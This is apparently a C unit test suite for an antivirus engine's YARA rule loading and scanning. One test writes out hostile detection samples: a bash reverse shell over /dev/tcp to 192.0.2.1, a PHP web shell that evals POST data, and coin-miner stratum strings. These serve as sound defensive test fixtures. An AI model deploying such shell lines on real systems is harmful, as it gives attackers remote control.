/* SPDX-License-Identifier: Apache-2.0 */
/* What rule sets load, what they leave out, and what they find. */
#include "test_av_util.h"

#include <dirent.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <yara.h>

#include "engine/av_content.h"
#include "engine/av_engine.h"
#include "tests/support/skip.h"

#define BUILT_IN TEST_SOURCE_DIR "/config/rules/yara"
#define GOOD "rule good { strings: $a = \"marker-one\" condition: $a }\n"
#define OTHER                                                                            \
    "rule other { meta: severity = \"critical\" id = \"x-1\" threat_name = \"Oth.Er\" "  \
    "strings: $a = \"marker-two\" condition: $a }\n"

static int setup(void **state)
{
    *state = scratch_new();
    return tc_av_engine_start();
}

static int teardown(void **state)
{
    scratch_free(*state);
    tc_av_engine_stop();
    return 0;
}

static struct tc_av_rules *load(const char *path)
{
    struct tc_av_rules *rules = NULL;

    assert_int_equal(tc_av_rules_load(&path, 1, NULL, NULL, &rules), 0);
    return rules;
}

static int scan(struct tc_av_rules *rules, const void *data, size_t len,
                struct tc_av_hit *hit)
{
    return tc_av_rules_scan(rules, data, len, len, 5000, hit);
}

static void engine_finds_eicar_only_as_published(void **state)
{
    static const struct {
        const char *before, *after;
        int found;
    } table[] = {
        {"", "", 1},
        {"", "\n", 1},
        {"", "\r\n", 1},
        {"", " \t\r\n\x1a", 1},
        {"", "x", 0},
        {"", "\n\nx", 0},
        {" ", "", 0},
        {"see: ", "", 0},
        {"\xef\xbb\xbf", "", 0},
        {"", "                                                            ", 1},
        {"", "                                                             ", 0},
    };
    struct tc_av_rules *rules = load(BUILT_IN);
    struct tc_av_hit hit;
    char text[EICAR_BYTES + 1], buf[512];

    (void)state;
    eicar(text);
    assert_null(tc_av_rules_issue(rules, 0));
    for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
        int n =
            snprintf(buf, sizeof(buf), "%s%s%s", table[i].before, text, table[i].after);

        print_message("variant %zu\n", i);
        assert_int_equal(scan(rules, buf, (size_t)n, &hit), table[i].found);
    }
    assert_int_equal(scan(rules, text, EICAR_BYTES, &hit), 1);
    assert_string_equal(hit.rule, "EICAR_Test_File");
    assert_string_equal(hit.name, "EICAR-Test-File");
    assert_string_equal(hit.severity, "high");
    assert_int_equal(scan(rules, text, EICAR_BYTES - 1, &hit), 0);
    tc_av_rules_unref(rules);
}

static void engine_built_in_linux_rules_find_their_kind(void **state)
{
    struct tc_av_rules *rules = load(BUILT_IN);
    struct tc_av_hit hit;
    char buf[4096];
    int n;

    (void)state;
    n = snprintf(buf, sizeof(buf), "#!/bin/sh\nbash -i >& /dev/%s/192.0.2.1/99 0>&1\n",
                 "tcp");
    assert_int_equal(scan(rules, buf, (size_t)n, &hit), 1);
    assert_string_equal(hit.rule, "Linux_Script_Reverse_Shell");
    n = snprintf(buf, sizeof(buf), "How: bash -i >& /dev/%s/192.0.2.1/99 0>&1\n", "tcp");
    assert_int_equal(scan(rules, buf, (size_t)n, &hit), 0);
    n = snprintf(buf, sizeof(buf), "<?php @%s($_POST['x']); ?>", "eval");
    assert_int_equal(scan(rules, buf, (size_t)n, &hit), 1);
    assert_string_equal(hit.rule, "PHP_Web_Shell");
    memset(buf, 0, sizeof(buf));
    memcpy(buf, "\177ELF", 4);
    n = 64 + snprintf(buf + 64, sizeof(buf) - 64, "%s+tcp:// donate-level huge-pages %s",
                      "stratum", "randomx");
    assert_int_equal(scan(rules, buf, (size_t)n, &hit), 1);
    assert_string_equal(hit.rule, "Linux_Coin_Miner");
    tc_av_rules_unref(rules);
}

static void engine_built_in_rules_are_silent_on_installed_programs(void **state)
{
    struct tc_av_rules *rules = load(BUILT_IN);
    struct tc_av_lists *lists;
    struct tc_av_judges judges = {.max_file_size = 64 << 20, .timeout_s = 30};
    struct tc_av_result result;
    DIR *dir = opendir("/usr/bin");
    unsigned files = 0;

    (void)state;
    assert_non_null(dir);
    assert_int_equal(tc_av_lists_load(NULL, NULL, AT_FDCWD, NULL, &lists), 0);
    judges.rules = rules;
    judges.lists = lists;
    for (struct dirent *e; files < 150 && (e = readdir(dir));) {
        int fd = openat(dirfd(dir), e->d_name, O_RDONLY | O_CLOEXEC);
        struct stat st;

        if (fd >= 0 && !fstat(fd, &st) && S_ISREG(st.st_mode) && st.st_size < 1 << 20) {
            tc_av_content_scan(fd, &judges, &result);
            if (result.found != TC_AV_CLEAN)
                fail_msg("%s: %s", e->d_name, result.hit.rule);
            files++;
        }
        if (fd >= 0)
            close(fd);
    }
    closedir(dir);
    tc_av_lists_unref(lists);
    tc_av_rules_unref(rules);
}

static void engine_skips_a_broken_file_and_names_line_and_file(void **state)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;
    struct tc_av_hit hit;

    put_text(in(path, *state, "a.yar"), GOOD);
    put_text(in(path, *state, "b.yar"), "rule bad {\n condition: nonsense\n}\n");
    put_text(in(path, *state, "c.yara"), OTHER);
    put_text(in(path, *state, "ignored.txt"), "no rule");
    rules = load(*state);
    assert_int_equal(tc_av_rules_files(rules), 2);
    assert_int_equal(tc_av_rules_count(rules), 2);
    assert_int_equal(tc_av_rules_failed(rules), 1);
    assert_non_null(strstr(tc_av_rules_issue(rules, 0), "/b.yar:2: "));
    assert_non_null(strstr(tc_av_rules_issue(rules, 0), "(YARA " YR_VERSION ")"));
    assert_null(tc_av_rules_issue(rules, 1));
    assert_int_equal(scan(rules, "marker-one", 10, &hit), 1);
    assert_string_equal(hit.id, "good");
    assert_int_equal(scan(rules, "marker-one marker-two", 21, &hit), 1);
    assert_string_equal(hit.id, "x-1"); /* the more severe one */
    assert_string_equal(hit.name, "Oth.Er");
    tc_av_rules_unref(rules);
}

static void engine_refuses_to_include_other_files(void **state)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;

    put_text(in(path, *state, "hidden"), GOOD);
    put_text(in(path, *state, "a.yar"), "include \"./hidden\"\n");
    rules = load(*state);
    assert_int_equal(tc_av_rules_files(rules), 0);
    assert_int_equal(tc_av_rules_failed(rules), 1);
    tc_av_rules_unref(rules);
}

static void count_folder(void *arg, const char *path)
{
    unsigned *n = arg;

    assert_int_equal(access(path, R_OK), 0);
    ++*n;
}

static void engine_names_each_folder_that_it_reads(void **state)
{
    const char *path = *state;
    struct tc_av_rules *rules;
    char sub[PATH_MAX];
    unsigned n = 0;

    mkdir(in(sub, *state, "sub"), 0755);
    assert_int_equal(tc_av_rules_load(&path, 1, count_folder, &n, &rules), 0);
    assert_int_equal(n, 2);
    tc_av_rules_unref(rules);
}

static void engine_same_rule_name_in_two_files_is_no_conflict(void **state)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;

    put_text(in(path, *state, "a.yar"), GOOD);
    mkdir(in(path, *state, "sub"), 0755);
    put_text(in(path, *state, "sub/a.yar"), GOOD);
    rules = load(*state);
    assert_int_equal(tc_av_rules_count(rules), 2);
    tc_av_rules_unref(rules);
}

static void engine_version_changes_with_the_rules(void **state)
{
    char path[PATH_MAX], first[13];
    struct tc_av_rules *rules;

    put_text(in(path, *state, "a.yar"), GOOD);
    rules = load(*state);
    snprintf(first, sizeof(first), "%s", tc_av_rules_version(rules));
    assert_int_equal(strlen(first), 12);
    tc_av_rules_unref(rules);
    rules = load(*state);
    assert_string_equal(first, tc_av_rules_version(rules));
    tc_av_rules_unref(rules);
    put_text(path, OTHER);
    rules = load(*state);
    assert_string_not_equal(first, tc_av_rules_version(rules));
    tc_av_rules_unref(rules);
}

static void engine_loads_compiled_rules(void **state)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;
    struct tc_av_hit hit;
    YR_COMPILER *compiler;
    YR_RULES *compiled;

    assert_int_equal(yr_compiler_create(&compiler), ERROR_SUCCESS);
    assert_int_equal(yr_compiler_add_string(compiler, OTHER, NULL), 0);
    assert_int_equal(yr_compiler_get_rules(compiler, &compiled), ERROR_SUCCESS);
    assert_int_equal(yr_rules_save(compiled, in(path, *state, "z.yarc")), ERROR_SUCCESS);
    yr_rules_destroy(compiled);
    yr_compiler_destroy(compiler);
    chmod(path, 0644);
    put_text(in(path, *state, "a.yar"), GOOD);
    put_text(in(path, *state, "broken.yarc"), "not compiled");
    rules = load(*state);
    assert_int_equal(tc_av_rules_files(rules), 2);
    assert_int_equal(tc_av_rules_failed(rules), 1);
    assert_int_equal(scan(rules, "marker-two", 10, &hit), 1);
    assert_int_equal(scan(rules, "marker-one", 10, &hit), 1);
    tc_av_rules_unref(rules);

    assert_int_equal(chmod(in(path, *state, "z.yarc"), 0666), 0);
    rules = load(*state);
    assert_int_equal(tc_av_rules_files(rules), 1);
    assert_int_equal(scan(rules, "marker-two", 10, &hit), 0);
    tc_av_rules_unref(rules);
}

/* libyara 4.2.3 compiles it, and then no file can be scanned. */
#define FAILS "rule fails { strings: $a = \"ab\" condition: #a in (1..6) > 0 }"

/* Whether this libyara has that fault. */
static bool fails_here(const char *folder)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;
    bool fails;

    put_text(in(path, folder, "fails.yar"), FAILS);
    rules = load(folder);
    fails = tc_av_rules_failed(rules) == 1;
    if (fails)
        assert_non_null(strstr(tc_av_rules_issue(rules, 0), "fails.yar: it compiles"));
    else
        assert_int_equal(tc_av_rules_selftest(rules, 5000), 0);
    tc_av_rules_unref(rules);
    assert_int_equal(unlink(path), 0);
    return fails;
}

static void
regress_a_rule_that_fails_on_every_file_does_not_switch_off_the_others(void **state)
{
    struct tc_av_rules *rules;
    char path[PATH_MAX];
    struct tc_av_hit hit;

    put_text(in(path, *state, "a.yar"), GOOD);
    (void)fails_here(*state);
    put_text(in(path, *state, "fails.yar"), FAILS);
    rules = load(*state);
    assert_int_equal(scan(rules, "marker-one", 10, &hit), 1);
    assert_string_equal(hit.rule, "good");
    assert_int_equal(scan(rules, "else", 4, &hit), 0);
    tc_av_rules_unref(rules);
}

static void engine_tests_itself_and_finds_its_sample(void **state)
{
    struct tc_av_rules *rules;
    char path[PATH_MAX];
    struct tc_av_hit hit;

    rules = load(*state); /* no rule at all */
    assert_int_equal(tc_av_rules_count(rules), 0);
    assert_int_equal(tc_av_rules_selftest(rules, 5000), 0);
    tc_av_rules_unref(rules);
    put_text(in(path, *state, "a.yar"), GOOD);
    rules = load(*state);
    assert_int_equal(tc_av_rules_count(rules), 1);
    assert_int_equal(tc_av_rules_selftest(rules, 5000), 0);
    assert_int_equal(scan(rules, TC_AV_SAMPLE, strlen(TC_AV_SAMPLE), &hit), 0);
    tc_av_rules_unref(rules);
}

static void engine_that_fails_on_every_file_fails_its_self_test(void **state)
{
    struct tc_av_judges judges = {.max_file_size = 4096, .timeout_s = 5};
    struct tc_av_rules *rules;
    YR_COMPILER *compiler;
    YR_RULES *compiled;
    struct tc_av_hit hit;
    char path[PATH_MAX];

    if (!fails_here(*state))
        return; /* a libyara without that fault, and it has passed its self-test */
    assert_int_equal(yr_compiler_create(&compiler), ERROR_SUCCESS);
    assert_int_equal(yr_compiler_add_string(compiler, FAILS, NULL), 0);
    assert_int_equal(yr_compiler_get_rules(compiler, &compiled), ERROR_SUCCESS);
    assert_int_equal(yr_rules_save(compiled, in(path, *state, "fails.yarc")),
                     ERROR_SUCCESS);
    yr_rules_destroy(compiled);
    yr_compiler_destroy(compiler);
    chmod(path, 0644);
    put_text(in(path, *state, "a.yar"), GOOD);
    rules = load(*state);
    assert_int_equal(tc_av_rules_failed(rules), 0);
    assert_int_equal(tc_av_rules_selftest(rules, 5000), -EIO);
    assert_int_equal(tc_av_lists_load("", "", -1, "", &judges.lists), 0);
    judges.rules = rules;
    assert_int_equal(tc_av_content_selftest(&judges), -EIO);
    assert_int_equal(scan(rules, "marker-one", 10, &hit), 1); /* the others go on */
    tc_av_lists_unref(judges.lists);
    tc_av_rules_unref(rules);
}

static void engine_missing_folder_is_an_issue_and_no_error(void **state)
{
    struct tc_av_rules *rules = load("/nonexistent/rules");
    struct tc_av_hit hit;

    (void)state;
    assert_int_equal(tc_av_rules_count(rules), 0);
    assert_non_null(tc_av_rules_issue(rules, 0));
    assert_int_equal(scan(rules, "x", 1, &hit), 0);
    tc_av_rules_unref(rules);
}

/* The set in force, as the plugin keeps it, with a lock in the place of its loop. */
struct shared {
    pthread_mutex_t lock;
    struct tc_av_rules *rules;
    atomic_bool stop;
    atomic_uint scans, wrong;
};

static void *scan_all_the_time(void *arg)
{
    struct shared *shared = arg;
    struct tc_av_hit hit;

    while (!atomic_load(&shared->stop)) {
        struct tc_av_rules *rules;

        pthread_mutex_lock(&shared->lock);
        rules = shared->rules;
        tc_av_rules_ref(rules);
        pthread_mutex_unlock(&shared->lock);
        if (scan(rules, "..marker-one..", 14, &hit) != 1)
            atomic_fetch_add(&shared->wrong, 1);
        tc_av_rules_unref(rules);
        atomic_fetch_add(&shared->scans, 1);
    }
    return NULL;
}

static void engine_swaps_rules_under_running_scans(void **state)
{
    struct shared shared = {.lock = PTHREAD_MUTEX_INITIALIZER};
    pthread_t threads[2];
    char path[PATH_MAX];

    put_text(in(path, *state, "a.yar"), GOOD);
    shared.rules = load(*state);
    for (int i = 0; i < 2; i++)
        pthread_create(&threads[i], NULL, scan_all_the_time, &shared);
    for (int i = 0; i < 50 || atomic_load(&shared.scans) < 200; i++) {
        struct tc_av_rules *fresh = load(*state), *old;

        pthread_mutex_lock(&shared.lock);
        old = shared.rules;
        shared.rules = fresh;
        pthread_mutex_unlock(&shared.lock);
        tc_av_rules_unref(old);
    }
    atomic_store(&shared.stop, true);
    for (int i = 0; i < 2; i++)
        pthread_join(threads[i], NULL);
    assert_int_equal(atomic_load(&shared.wrong), 0);
    tc_av_rules_unref(shared.rules);
}

static void engine_gives_up_when_the_time_is_over(void **state)
{
    char path[PATH_MAX];
    struct tc_av_rules *rules;
    struct tc_av_hit hit;
    int r;

    put_text(in(path, *state, "slow.yar"),
             "rule slow { condition: for all i in (0..100000000) : ( i >= 0 ) }\n");
    rules = load(*state);
    r = tc_av_rules_scan(rules, "x", 1, 1, 1000, &hit);
    assert_int_equal(r, -ETIMEDOUT);
    tc_av_rules_unref(rules);
}

static void engine_loads_the_third_party_rules(void **state)
{
    const char *path = TEST_SOURCE_DIR "/../shared/data/yara/reversinglabs";
    struct tc_av_rules *rules;
    struct tc_av_hit hit;

    (void)state;
    if (access(path, R_OK)) {
        test_skip("no third-party rules at %s", path);
    }
    rules = load(path);
    if (tc_av_rules_issue(rules, 0))
        fail_msg("%s", tc_av_rules_issue(rules, 0));
    assert_true(tc_av_rules_count(rules) >= 1000);
    assert_int_equal(scan(rules, "nothing to see here", 19, &hit), 0);
    tc_av_rules_unref(rules);
}

static void content_scans_the_start_of_a_larger_file_with_its_true_size(void **state)
{
    char path[PATH_MAX], buf[4096] = "marker-one";
    struct tc_av_judges judges = {.max_file_size = 1024, .timeout_s = 5};
    struct tc_av_result result;
    int fd;

    put_text(
        in(path, *state, "a.yar"),
        "rule size { strings: $a = \"marker-one\" condition: $a and filesize == 4096 }");
    judges.rules = load(*state);
    assert_int_equal(tc_av_lists_load(NULL, NULL, AT_FDCWD, NULL, &judges.lists), 0);
    put_bytes(in(path, *state, "file"), buf, sizeof(buf));
    fd = open_ro(path);
    tc_av_content_scan(fd, &judges, &result);
    assert_int_equal(result.found, TC_AV_INFECTED);
    assert_true(result.truncated);
    assert_int_equal(result.bytes, 1024);
    assert_false(result.changed);
    close(fd);
    tc_av_lists_unref(judges.lists);
    tc_av_rules_unref(judges.rules);
}

/* What was restored or allowed passes, however large it is. */
static void regress_content_allows_a_file_larger_than_what_is_scanned(void **state)
{
    char path[PATH_MAX], list[PATH_MAX], hex[TC_AV_HASH_TEXT], buf[4096] = "marker-one";
    struct tc_av_judges judges = {.max_file_size = 1024, .timeout_s = 5};
    uint8_t hash[TC_AV_HASH_BYTES];
    struct tc_av_result result;
    int fd;

    put_text(in(path, *state, "a.yar"),
             "rule one { strings: $a = \"marker-one\" condition: $a }");
    judges.rules = load(*state);
    tc_av_hash_mem(buf, sizeof(buf), hash);
    tc_av_hash_text(hash, hex);
    put_text(in(list, *state, "allow"), hex);
    assert_int_equal(tc_av_lists_load(list, NULL, AT_FDCWD, NULL, &judges.lists), 0);
    put_bytes(in(path, *state, "file"), buf, sizeof(buf));
    fd = open_ro(path);
    tc_av_content_scan(fd, &judges, &result);
    assert_int_equal(result.found, TC_AV_CLEAN);
    close(fd);
    buf[4095] = 1; /* beyond what is scanned */
    put_bytes(path, buf, sizeof(buf));
    fd = open_ro(path);
    tc_av_content_scan(fd, &judges, &result);
    assert_int_equal(result.found, TC_AV_INFECTED);
    close(fd);
    tc_av_lists_unref(judges.lists);
    tc_av_rules_unref(judges.rules);
}

static void content_lists_decide_before_rules_do(void **state)
{
    char path[PATH_MAX], list[PATH_MAX], text[EICAR_BYTES + 1], hex[TC_AV_HASH_TEXT];
    struct tc_av_judges judges = {.max_file_size = 1 << 20, .timeout_s = 5};
    uint8_t hash[TC_AV_HASH_BYTES];
    struct tc_av_result result;
    int fd;

    judges.rules = load(BUILT_IN);
    eicar(text);
    tc_av_hash_mem(text, EICAR_BYTES, hash);
    tc_av_hash_text(hash, hex);
    put_text(in(list, *state, "allow"), hex);
    put_text(in(path, *state, "eicar"), text);
    assert_int_equal(tc_av_lists_load(list, NULL, AT_FDCWD, NULL, &judges.lists), 0);
    fd = open_ro(path);
    tc_av_content_scan(fd, &judges, &result);
    assert_int_equal(result.found, TC_AV_CLEAN);
    tc_av_lists_unref(judges.lists);
    close(fd);

    put_text(path, "harmless");
    tc_av_hash_mem("harmless", 8, hash);
    tc_av_hash_text(hash, hex);
    put_text(list, hex);
    assert_int_equal(tc_av_lists_load(NULL, list, AT_FDCWD, NULL, &judges.lists), 0);
    fd = open_ro(path);
    tc_av_content_scan(fd, &judges, &result);
    assert_int_equal(result.found, TC_AV_INFECTED);
    assert_string_equal(result.hit.rule, "block_list");
    assert_memory_equal(result.hash, hash, sizeof(hash));
    close(fd);
    tc_av_lists_unref(judges.lists);
    tc_av_rules_unref(judges.rules);
}

static void content_opens_no_link_no_fifo_and_no_other_inode(void **state)
{
    char path[PATH_MAX], link[PATH_MAX];
    struct tc_av_key key = {.ino = 1};
    int fd;

    put_text(in(path, *state, "file"), "x");
    assert_int_equal(tc_av_content_open(path, &key, &fd), -ESTALE);
    assert_int_equal(symlink(path, in(link, *state, "link")), 0);
    assert_int_equal(tc_av_content_open(link, NULL, &fd), -ELOOP);
    assert_int_equal(mkfifo(in(link, *state, "fifo"), 0600), 0);
    assert_int_equal(tc_av_content_open(link, NULL, &fd), -EINVAL);
}

int main(void)
{
#define TEST(name_) cmocka_unit_test_setup_teardown(name_, setup, teardown)
    const struct CMUnitTest tests[] = {
        TEST(engine_finds_eicar_only_as_published),
        TEST(engine_built_in_linux_rules_find_their_kind),
        TEST(engine_built_in_rules_are_silent_on_installed_programs),
        TEST(engine_skips_a_broken_file_and_names_line_and_file),
        TEST(engine_refuses_to_include_other_files),
        TEST(engine_names_each_folder_that_it_reads),
        TEST(engine_same_rule_name_in_two_files_is_no_conflict),
        TEST(engine_version_changes_with_the_rules),
        TEST(engine_loads_compiled_rules),
        TEST(regress_a_rule_that_fails_on_every_file_does_not_switch_off_the_others),
        TEST(engine_tests_itself_and_finds_its_sample),
        TEST(engine_that_fails_on_every_file_fails_its_self_test),
        TEST(engine_missing_folder_is_an_issue_and_no_error),
        TEST(engine_swaps_rules_under_running_scans),
        TEST(engine_gives_up_when_the_time_is_over),
        TEST(engine_loads_the_third_party_rules),
        TEST(content_scans_the_start_of_a_larger_file_with_its_true_size),
        TEST(regress_content_allows_a_file_larger_than_what_is_scanned),
        TEST(content_lists_decide_before_rules_do),
        TEST(content_opens_no_link_no_fifo_and_no_other_inode),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
